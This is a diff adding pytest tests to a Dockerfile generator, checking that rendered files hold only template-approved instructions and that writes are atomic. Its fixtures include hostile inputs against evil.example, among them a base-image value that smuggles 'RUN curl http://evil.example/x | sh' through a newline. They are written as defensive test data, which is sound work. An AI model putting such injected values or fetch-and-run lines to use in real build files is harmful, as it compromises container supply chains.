@@ -10,6 +10,8 @@ review the diff:
 
 from __future__ import annotations
 
+import dataclasses
+import errno
 import os
 import re
 import shlex
@@ -27,6 +29,7 @@ from dlimages.project import Project
 from dlimages.render import (
     GeneratedFile,
     check_partials,
+    dockerfile_problems,
     environment,
     render_cell,
     render_tree,
@@ -404,3 +407,287 @@ def test_render_writes_nothing_when_validation_fails(rendered_copy: Rendered) ->
     assert "error: matrix.yaml: partials[1]: no template templates/partials/proxy.j2" in result.stderr
     assert "Traceback" not in result.stderr + result.stdout
     assert _snapshot(root) == before
+
+
+def _render(root: Path, *args: str) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(
+        [sys.executable, "-m", "invoke", "render", *args],
+        cwd=root,
+        capture_output=True,
+        text=True,
+        timeout=60,
+        check=False,
+    )
+
+
+# --- Every render checks what the Dockerfiles hold (issue 8) -------------------------------------------------
+
+UBUNTU_SLUG = "cuda11.8-torch2.1.2-py3.10-runtime"
+
+
+def test_every_rendered_dockerfile_holds_only_what_the_templates_write(
+    real_expansion: Expansion, rendered: dict[str, str], expansion: Expansion, matrix: Matrix
+) -> None:
+    for c in real_expansion.cells:
+        assert dockerfile_problems(c.dockerfile, rendered[c.dockerfile], c) == [], c.slug
+    env = environment(REPO)
+    for c in expansion.cells:
+        assert dockerfile_problems(c.dockerfile, render_cell(env, matrix, c), c) == [], c.slug
+
+
+def _edited(text: str, old: str, new: str) -> str:
+    assert text.count(old) == 1, old
+    return text.replace(old, new)
+
+
+_FROM = "FROM ${BASE_IMAGE}\n"
+_END = 'CMD ["jupyter", "lab"]\n'
+
+
+@pytest.mark.parametrize(
+    ("edit", "problem"),
+    [
+        pytest.param(
+            lambda t: _edited(t, _END, _END + "USER root\n"),
+            "switches to a user other than the image's own (allowed: USER 1000:1000)",
+            id="user-root",
+        ),
+        pytest.param(
+            lambda t: _edited(t, _FROM, "FROM ${BASE_IMAGE} AS build\n"),
+            "a second FROM, or a FROM other than the one the templates write (allowed: FROM ${BASE_IMAGE})",
+            id="from-as",
+        ),
+        pytest.param(
+            lambda t: _edited(t, _END, _END + "FROM evil.example/image\n"),
+            "a second FROM, or a FROM other than the one the templates write (allowed: FROM ${BASE_IMAGE})",
+            id="second-from",
+        ),
+        pytest.param(
+            lambda t: _edited(t, _END, _END + "ADD http://evil.example/x /usr/local/bin/x\n"),
+            "instruction 'ADD' is not one the templates write (allowed: ARG, FROM, SHELL, ENV, RUN, USER, WORKDIR, "
+            "COPY, EXPOSE, LABEL, ENTRYPOINT, CMD)",
+            id="add-url",
+        ),
+        pytest.param(
+            lambda t: _edited(t, _END, _END + "ONBUILD RUN id\n"),
+            "instruction 'ONBUILD' is not one the templates write (allowed: ARG, FROM, SHELL, ENV, RUN, USER, WORKDIR, "
+            "COPY, EXPOSE, LABEL, ENTRYPOINT, CMD)",
+            id="onbuild",
+        ),
+        pytest.param(
+            lambda t: _edited(t, _END, _END + "COPY --from=evil.example/image / /\n"),
+            "COPY with the flag '--from=evil.example/image', which the templates never use",
+            id="copy-from-image",
+        ),
+        pytest.param(
+            lambda t: _edited(t, _END, _END + "RUN --network=host id\n"),
+            "RUN with the flag '--network=host', which the templates never use",
+            id="run-network",
+        ),
+        pytest.param(
+            lambda t: _edited(t, _END, _END + "RUN --security=insecure id\n"),
+            "RUN with the flag '--security=insecure', which the templates never use",
+            id="run-insecure",
+        ),
+        pytest.param(
+            lambda t: _edited(t, _END, _END + "RUN --mount=type=bind,from=evil.example/x,target=/x id\n"),
+            "RUN with the flag '--mount=type=bind,from=evil.example/x,target=/x', which the templates never use",
+            id="run-bind-mount",
+        ),
+        pytest.param(
+            lambda t: _edited(t, _END, _END + "RUN echo \u202ehidden\n"),
+            "has characters outside printable ASCII",
+            id="bidi-control",
+        ),
+        pytest.param(
+            lambda t: _edited(t, "ARG BASE_IMAGE=ubuntu:22.04\n", "ARG BASE_IMAGE=ubuntu:22.04\nRUN id\n"),
+            "only `ARG BASE_IMAGE=<image reference>` may come before FROM",
+            id="run-before-from",
+        ),
+        pytest.param(
+            lambda t: "# syntax=evil.example/frontend\n" + t,
+            "does not start with the generated header (a parser directive such as `# syntax=` may not come first)",
+            id="syntax-directive",
+        ),
+    ],
+)
+def test_the_structure_check_refuses_what_the_templates_never_write(
+    cell: CellLookup, edit: Callable[[str], str], problem: str
+) -> None:
+    text = edit(_golden(UBUNTU_SLUG))
+    lines = text.splitlines()
+    problems = dockerfile_problems("images/x/Dockerfile", text, cell("pytorch", UBUNTU_SLUG))
+    assert [p.message + (f" (allowed: {p.allowed})" if p.allowed else "") for p in problems] == [problem]
+    number = int(problems[0].where.rpartition(":")[2])
+    assert problems[0].where == f"images/x/Dockerfile:{number}" and 1 <= number <= len(lines)
+
+
+def test_the_structure_check_refuses_a_dockerfile_that_stays_root(cell: CellLookup) -> None:
+    # matrix.yaml chooses the partials: without `user` and `labels` nothing would switch away from root.
+    text = "".join(line for line in _golden(UBUNTU_SLUG).splitlines(keepends=True) if not line.startswith("USER "))
+    problems = dockerfile_problems("images/x/Dockerfile", text, cell("pytorch", UBUNTU_SLUG))
+    assert [str(p) for p in problems] == [
+        f"images/x/Dockerfile:{len(text.splitlines())}: never switches to the image's own user: the image would run "
+        "as root (allowed: USER 1000:1000)"
+    ]
+
+
+def test_the_structure_check_refuses_a_here_document(cell: CellLookup) -> None:
+    # Its body would hide instructions from a line-based check, so the templates never use one.
+    text = _golden(UBUNTU_SLUG) + "RUN <<EOF\nid\nEOF\n"
+    problems = dockerfile_problems("images/x/Dockerfile", text, cell("pytorch", UBUNTU_SLUG))
+    assert "RUN with a here-document, which the templates never use" in [p.message for p in problems]
+
+
+def test_render_refuses_a_cell_whose_base_image_carries_an_instruction(
+    repo_copy: Path, matrix: Matrix, expansion: Expansion
+) -> None:
+    # What a newline in os.*.image wrote into 22 Dockerfiles; spec refuses the value, and render checks again.
+    hostile = dataclasses.replace(expansion.cells[0], base_image="ubuntu:22.04\nRUN curl http://evil.example/x | sh")
+    with pytest.raises(InputError) as caught:
+        render_tree(repo_copy, matrix, Expansion((hostile, *expansion.cells[1:])))
+    report = caught.value.report().splitlines()
+    assert report[0] == "Rendered Dockerfiles hold what the templates must never write; nothing was written:"
+    lines = render_cell(environment(repo_copy), matrix, hostile).splitlines()
+    arg = lines.index("ARG BASE_IMAGE=ubuntu:22.04") + 1
+    assert lines[arg] == "RUN curl http://evil.example/x | sh"
+    assert report[1:] == [
+        f"error: {hostile.dockerfile}:{line}: only `ARG BASE_IMAGE=<image reference>` may come before FROM"
+        for line in (arg, arg + 1)
+    ]
+    assert not (repo_copy / "images").exists()
+
+
+def test_invoke_render_and_render_check_refuse_a_template_that_writes_user_root(rendered_copy: Rendered) -> None:
+    root, _ = rendered_copy
+    before = _snapshot(root)
+    with (root / "templates/partials/labels.j2").open("a", encoding="utf-8") as labels:
+        labels.write("USER root\n")
+    result = _render(root)
+    assert result.returncode == 2, result.stdout + result.stderr
+    assert "Rendered Dockerfiles hold what the templates must never write; nothing was written:" in result.stderr
+    assert re.search(
+        r"^error: images/pytorch/cuda11.8-torch2.1.2-py3.10-runtime/Dockerfile:\d+: switches to a user other than "
+        r"the image's own \(allowed: USER 1000:1000\)$",
+        result.stderr,
+        re.MULTILINE,
+    ), result.stderr
+    assert "Traceback" not in result.stdout + result.stderr
+    assert _snapshot(root) == before
+    with pytest.raises(InputError, match="switches to a user other than the image's own"):
+        Project(root).check_rendered()  # what `invoke render --check` calls
+
+
+# --- Atomic render: images/ is the old tree or the new one, never a mix (issue 8) ----------------------------
+
+
+def _change_every_dockerfile(root: Path) -> None:
+    labels = root / "templates/partials/labels.j2"
+    labels.write_text("# Labels, reworded.\n" + labels.read_text(encoding="utf-8"), encoding="utf-8")
+
+
+def _no_temporary_tree(root: Path) -> bool:
+    return not [p.name for p in root.iterdir() if p.name.startswith(".images")]
+
+
+def test_a_failure_mid_write_leaves_images_as_it_was(rendered_copy: Rendered, monkeypatch: pytest.MonkeyPatch) -> None:
+    root, _ = rendered_copy
+    before = _snapshot(root)
+    _change_every_dockerfile(root)
+    write_bytes, written = Path.write_bytes, []
+
+    def disk_full_after_five(self: Path, data: bytes) -> int:
+        if len(written) == 5:
+            raise OSError(errno.ENOSPC, "No space left on device", str(self))
+        written.append(self)
+        return write_bytes(self, data)
+
+    monkeypatch.setattr(Path, "write_bytes", disk_full_after_five)
+    with pytest.raises(InputError) as caught:
+        Project(root).write_rendered()
+    assert re.fullmatch(
+        r"error: images/: not written, left as it was: No space left on device \(\.images\.new/\S+\)",
+        caught.value.report(),
+    ), caught.value.report()
+    assert len(written) == 5
+    assert _snapshot(root) == before
+    assert _no_temporary_tree(root)
+
+
+def test_a_failed_swap_puts_the_old_tree_back(rendered_copy: Rendered, monkeypatch: pytest.MonkeyPatch) -> None:
+    root, _ = rendered_copy
+    before = _snapshot(root)
+    _change_every_dockerfile(root)
+    rename = Path.rename
+
+    def refuse_the_new_tree(self: Path, target: str | os.PathLike[str]) -> Path:
+        if Path(target) == root / "images" and self.name == ".images.new":
+            raise OSError(errno.EBUSY, "Device or resource busy", str(self))
+        return rename(self, target)
+
+    monkeypatch.setattr(Path, "rename", refuse_the_new_tree)
+    with pytest.raises(InputError, match=r"^error: images/: not written, left as it was: Device or resource busy"):
+        Project(root).write_rendered()
+    assert _snapshot(root) == before
+    assert _no_temporary_tree(root)
+
+
+def test_a_file_where_a_folder_must_go_does_not_stop_the_render(rendered_copy: Rendered) -> None:
+    # The old writer made 30 files, then failed on a path it could not create and left the rest stale.
+    root, _ = rendered_copy
+    shutil.rmtree(root / "images/pytorch")
+    (root / "images/pytorch").write_text("not a folder\n", encoding="utf-8")
+    _change_every_dockerfile(root)
+    project = Project(root)
+    changed, total = project.write_rendered()
+    assert "removed images/pytorch" in changed
+    assert stale_files(root, project.rendered()) == [] and total == len(project.rendered())
+    assert _no_temporary_tree(root)
+
+
+def test_a_tree_left_by_a_killed_render_is_replaced(rendered_copy: Rendered) -> None:
+    root, files = rendered_copy
+    (root / ".images.new/pytorch").mkdir(parents=True)
+    (root / ".images.new/pytorch/half-written").write_text("x", encoding="utf-8")
+    (root / ".images.old").mkdir()
+    (root / "images/assets/zshrc").write_text("edited\n", encoding="utf-8")
+    assert write_tree(root, files) == ["wrote images/assets/zshrc"]
+    assert stale_files(root, files) == []
+    assert _no_temporary_tree(root)
+
+
+def test_a_read_only_images_folder_is_an_input_error(rendered_copy: Rendered) -> None:
+    # Tests run as root, where chmod stops nothing: the immutable attribute does.
+    root, _ = rendered_copy
+    images = root / "images"
+    locked = subprocess.run(["chattr", "-R", "+i", str(images)], capture_output=True, check=False)
+    if locked.returncode != 0:
+        pytest.skip(f"chattr +i is not available here: {locked.stderr.decode().strip()}")
+    try:
+        before = _snapshot(root)
+        _change_every_dockerfile(root)
+        result = _render(root)
+        assert result.returncode == 2, result.stdout + result.stderr
+        assert "error: images/: not written, left as it was: Operation not permitted" in result.stderr
+        assert "Traceback" not in result.stdout + result.stderr
+        assert _snapshot(root) == before
+        assert _no_temporary_tree(root)
+    finally:
+        subprocess.run(["chattr", "-R", "-i", str(images)], check=True)
+
+
+def test_missing_templates_assets_is_an_input_error(repo_copy: Path, matrix: Matrix, expansion: Expansion) -> None:
+    shutil.rmtree(repo_copy / "templates/assets")
+    with pytest.raises(InputError) as caught:
+        render_tree(repo_copy, matrix, expansion)
+    assert caught.value.report() == (
+        "error: templates/assets: missing: the folder of files every image copies (dl-entrypoint, zshrc, ...)"
+    )
+
+
+def test_a_template_that_is_not_utf8_is_an_input_error(repo_copy: Path, matrix: Matrix, expansion: Expansion) -> None:
+    with (repo_copy / "templates/partials/shell.j2").open("ab") as shell:
+        shell.write(b"# caf\xe9\n")
+    with pytest.raises(InputError) as caught:
+        render_tree(repo_copy, matrix, expansion)
+    assert caught.value.report() == ("error: templates/partials/shell.j2: not UTF-8 text (invalid continuation byte)")
